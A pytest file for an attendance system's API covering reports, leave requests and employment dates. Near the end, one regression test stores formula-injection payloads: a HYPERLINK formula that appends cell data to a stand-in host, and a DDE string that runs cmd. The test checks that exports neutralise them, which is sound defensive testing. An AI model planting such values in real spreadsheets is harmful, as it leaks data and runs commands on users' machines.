"""Reports (JSON, CSV, XLSX) and leave over HTTP."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from api.conftest import Api, Headers, make_api
from hadir.services.records import Role
from services.conftest import NOW, FakeFaceEngine, FixedClock, photo
from services.helpers import ARIO, SRI

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def seed(api: Api, operator: Headers, kiosk: Headers) -> None:
    api.employee(SRI, "Sri Wahyuni")
    api.employee(ARIO, "Ario Wibowo", unit="Dinkes")
    api.enrol(SRI, operator, photo("sri", seed=1))
    response = api.client.post(
        "/api/v1/attendance/check-in",
        files={"image": ("a.jpg", photo("sri", seed=2), "image/jpeg")},
        data={"employee_id": SRI},
        headers=kiosk,
    )
    assert response.status_code == 201


def test_daily_report_json(api: Api, operator: Headers, kiosk: Headers) -> None:
    seed(api, operator, kiosk)
    response = api.client.get("/api/v1/reports/daily?date=2025-03-03", headers=operator)
    assert response.status_code == 200, response.text
    rows = {r["employee_id"]: r for r in response.json()["daily"]}
    assert rows[SRI]["status"] == "on_time"
    assert rows[SRI]["check_in"] == "08:00"
    assert rows[ARIO]["check_in"] is None
    unit = api.client.get("/api/v1/reports/daily?date=2025-03-03&unit=Dinkes", headers=operator)
    assert [r["employee_id"] for r in unit.json()["daily"]] == [ARIO]


def test_monthly_report_downloads(api: Api, operator: Headers, kiosk: Headers) -> None:
    seed(api, operator, kiosk)
    xlsx = api.client.get("/api/v1/reports/monthly?month=2025-03&format=xlsx", headers=operator)
    assert xlsx.status_code == 200
    assert xlsx.headers["content-type"] == XLSX
    assert xlsx.headers["content-disposition"] == (
        'attachment; filename="rekap-kehadiran-2025-03.xlsx"'
    )
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["Rekap", "Harian", "Ketentuan"]
    recap = list(book["Rekap"].iter_rows(values_only=True))
    assert recap[0][0] == "NIP"
    assert {row[0] for row in recap[1:]} == {SRI, ARIO}
    response = api.client.get(
        "/api/v1/reports/monthly?month=2025-03&format=csv&unit=Bappeda", headers=operator
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "rekap-kehadiran-2025-03-bappeda-rekap.csv" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["NIP", "Nama"]
    assert [r[0] for r in rows[1:]] == [SRI]
    daily = api.client.get("/api/v1/reports/daily?date=2025-03-03&format=csv", headers=operator)
    header = next(csv.reader(io.StringIO(daily.content.decode("utf-8-sig"))))
    assert header[0] == "Tanggal"
    as_json = api.client.get("/api/v1/reports/monthly?month=2025-03", headers=operator).json()
    assert len(as_json["recap"]) == 2
    assert len(as_json["daily"]) == 62


@pytest.fixture
def regency(tmp_path: Path) -> Iterator[Api]:
    """Bands and percentages of another regulation; the clock is 08:15 WIB."""
    yield from make_api(
        tmp_path,
        FakeFaceEngine(),
        FixedClock(NOW + timedelta(minutes=15)),
        late_bands_minutes=[10, 20, 30],
        tpp_late_percent=["0.25", "0.5", "0.75", "1"],
        tpp_absent_percent="2.5",
    )


def test_tl_psw_and_tpp_deduction_follow_the_settings(regency: Api) -> None:
    operator, kiosk = regency.token(Role.OPERATOR), regency.token(Role.KIOSK)
    seed(regency, operator, kiosk)  # Sri checks in at 08:15: 15 minutes late
    report = regency.client.get("/api/v1/reports/monthly?month=2025-03", headers=operator)
    assert report.status_code == 200, report.text
    body = report.json()
    recap = {r["employee_id"]: r for r in body["recap"]}
    sri = recap[SRI]
    assert [sri[f"tl{i}"] for i in range(1, 5)] == [0, 1, 0, 0]  # 11-20 minutes: TL2
    assert [sri[f"psw{i}"] for i in range(1, 5)] == [0, 0, 0, 0]  # the day is not over
    assert sri["tpp_deduction_percent"] == 0.5
    assert recap[ARIO]["tpp_deduction_percent"] == 2.5  # absent on 3 March
    assert body["discipline"]["late_bounds"] == [10, 20, 30]
    assert body["discipline"]["absent_percent"] == 2.5
    assert body["discipline"]["cap_percent"] == 100
    third = next(d for d in body["daily"] if d["employee_id"] == SRI and d["day"] == "2025-03-03")
    assert third["categories"] == ["tl2"]

    xlsx = regency.client.get("/api/v1/reports/monthly?month=2025-03&format=xlsx", headers=operator)
    rules = {
        row[0]: row
        for row in load_workbook(io.BytesIO(xlsx.content))["Ketentuan"].iter_rows(values_only=True)
    }
    assert rules["TL2"][2:] == ("11-20", 0.5)
    assert rules["TK"][3] == 2.5


def test_bad_report_queries_are_422(api: Api, operator: Headers) -> None:
    for query in (
        "monthly?month=2025-13",
        "monthly?month=March",
        "monthly",
        "monthly?month=2025-03&format=pdf",
        "daily?date=2025-02-30",
        "daily",
    ):
        response = api.client.get(f"/api/v1/reports/{query}", headers=operator)
        assert response.status_code == 422, query
        assert response.json()["error"]["code"] == "validation_error"


def test_leave_request_and_decision(api: Api, operator: Headers) -> None:
    api.employee(SRI, "Sri Wahyuni")
    api.employee(ARIO, "Ario Wibowo", unit="Dinkes")
    body = {
        "employee_id": SRI,
        "kind": "cuti",
        "start_date": "2025-03-03",
        "end_date": "2025-03-05",
    }
    created = api.client.post("/api/v1/leave", json=body, headers=operator)
    assert created.status_code == 201, created.text
    leave = created.json()
    assert leave["status"] == "requested"
    other = api.client.post("/api/v1/leave", json={**body, "employee_id": ARIO}, headers=operator)
    dinkes = api.token(Role.SUPERVISOR, unit="Dinkes")
    bappeda = api.token(Role.SUPERVISOR, unit="Bappeda")
    decision = f"/api/v1/leave/{leave['id']}/decision"
    assert (
        api.client.post(decision, json={"decision": "approve"}, headers=dinkes).status_code == 403
    )
    approved = api.client.post(decision, json={"decision": "approve"}, headers=bappeda)
    assert approved.status_code == 200
    assert approved.json()["status"] == "approved"
    again = api.client.post(decision, json={"decision": "reject"}, headers=bappeda)
    assert again.status_code == 409
    listed = api.client.get("/api/v1/leave", headers=bappeda).json()
    assert [x["employee_id"] for x in listed] == [SRI]
    requested = api.client.get("/api/v1/leave?status=requested", headers=operator).json()
    assert [x["id"] for x in requested] == [other.json()["id"]]
    report = api.client.get("/api/v1/reports/daily?date=2025-03-04", headers=operator).json()
    statuses = {r["employee_id"]: r["status"] for r in report["daily"]}
    assert statuses[SRI] == "on_leave"


def test_bad_leave_input(api: Api, operator: Headers) -> None:
    api.employee(SRI, "Sri Wahyuni")
    good = {
        "employee_id": SRI,
        "kind": "cuti",
        "start_date": "2025-03-03",
        "end_date": "2025-03-05",
    }
    cases = [
        ({**good, "end_date": "2025-03-01"}, 422),
        ({**good, "kind": "holiday"}, 422),
        ({**good, "start_date": "soon"}, 422),
        ({**good, "employee_id": "nope"}, 404),
        ({"employee_id": SRI}, 422),
    ]
    for body, status in cases:
        response = api.client.post("/api/v1/leave", json=body, headers=operator)
        assert response.status_code == status, body
    assert (
        api.client.post(
            "/api/v1/leave/999/decision", json={"decision": "approve"}, headers=operator
        ).status_code
        == 404
    )
    created = api.client.post("/api/v1/leave", json=good, headers=operator).json()
    bad = api.client.post(
        f"/api/v1/leave/{created['id']}/decision", json={"decision": "maybe"}, headers=operator
    )
    assert bad.status_code == 422
    kiosk = api.token(Role.KIOSK)
    assert api.client.post("/api/v1/leave", json=good, headers=kiosk).status_code == 403


@pytest.fixture
def bounded(tmp_path: Path) -> Iterator[Api]:
    yield from make_api(
        tmp_path, FakeFaceEngine(), FixedClock(NOW), leave_max_days=10, leave_backdate_days=7
    )


def _ask(api: Api, headers: Headers, start: str, end: str) -> httpx.Response:
    body = {"employee_id": SRI, "kind": "cuti", "start_date": start, "end_date": end}
    return api.client.post("/api/v1/leave", json=body, headers=headers)


def test_leave_is_bounded_in_length_and_backdating(bounded: Api) -> None:
    """Issue 13, finding 11: leave from 0001-01-01 to 9999-12-31, or in 2020, was accepted
    (and once approved, the employee was on leave forever). Today is 2025-03-03 here."""
    bounded.employee(SRI, "Sri Wahyuni")
    operator = bounded.token(Role.OPERATOR)
    refused = {
        "forever": _ask(bounded, operator, "0001-01-01", "9999-12-31"),
        "2020": _ask(bounded, operator, "2020-01-06", "2020-01-07"),
        "too long": _ask(bounded, operator, "2025-03-03", "2025-03-13"),
        "too far back": _ask(bounded, operator, "2025-02-23", "2025-02-24"),
        "too far ahead": _ask(bounded, operator, "2027-01-04", "2027-01-05"),
    }
    for what, response in refused.items():
        assert response.status_code == 422, what
        assert response.json()["error"]["code"] == "validation_error", what
    assert "10" in refused["too long"].json()["error"]["message"]
    assert _ask(bounded, operator, "2025-03-03", "2025-03-12").status_code == 201  # 10 days
    assert _ask(bounded, operator, "2025-02-24", "2025-02-24").status_code == 201  # 7 back
    assert len(bounded.client.get("/api/v1/leave", headers=operator).json()) == 2


FORMULA = '=HYPERLINK("http://x.example/"&B2,"Klik")'


def test_typed_text_is_never_a_formula_in_reports(api: Api, operator: Headers) -> None:
    """Issue 13, finding 4: a name typed as a formula became a live formula in the XLSX
    and an unescaped ``=`` field in the CSV."""
    body = {
        "employee_id": "1985",
        "employee_type": "non_asn",
        "name": FORMULA,
        "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    assert api.client.post("/api/v1/employees", json=body, headers=operator).status_code == 201
    xlsx = api.client.get("/api/v1/reports/monthly?month=2025-03&format=xlsx", headers=operator)
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert FORMULA in {c.value for c in cells}  # kept, as text
    csv_url = "/api/v1/reports/monthly?month=2025-03&format=csv&part=rekap"
    text = api.client.get(csv_url, headers=operator).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1:3] == ["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"]
    for row in rows:
        assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row)


def test_no_absence_before_the_start_date(api: Api, operator: Headers) -> None:
    """Done-when of issue 15: an employee who starts on Monday 17 March 2025 is absent on
    none of the 10 working days before; 11 working days remain (17-21, 24-28, 31)."""
    from datetime import UTC, datetime

    body = {"employee_id": "19850315 201001 1 001", "name": "Baru", "start_date": "2025-03-17"}
    assert api.client.post("/api/v1/employees", json=body, headers=operator).status_code == 201
    leaver = {"employee_id": ARIO, "name": "Ario", "end_date": "2025-03-07"}
    assert api.client.post("/api/v1/employees", json=leaver, headers=operator).status_code == 201
    api.clock.at = datetime(2025, 4, 1, 3, 0, tzinfo=UTC)
    report = api.client.get("/api/v1/reports/monthly?month=2025-03", headers=operator).json()
    recap = {r["employee_id"]: r for r in report["recap"]}
    assert (recap["198503152010011001"]["working_days"], recap[ARIO]["working_days"]) == (11, 5)
    assert (recap["198503152010011001"]["absences"], recap[ARIO]["absences"]) == (11, 5)
    days = {r["day"]: r["status"] for r in report["daily"] if r["employee_id"] == ARIO}
    assert (days["2025-03-07"], days["2025-03-10"]) == ("absent", "not_employed")
    april = api.client.get("/api/v1/reports/monthly?month=2025-04", headers=operator).json()
    assert [r["employee_id"] for r in april["recap"]] == ["198503152010011001"]
    daily = api.client.get("/api/v1/reports/daily?date=2025-03-14", headers=operator).json()
    assert [r["employee_id"] for r in daily["daily"]] == []
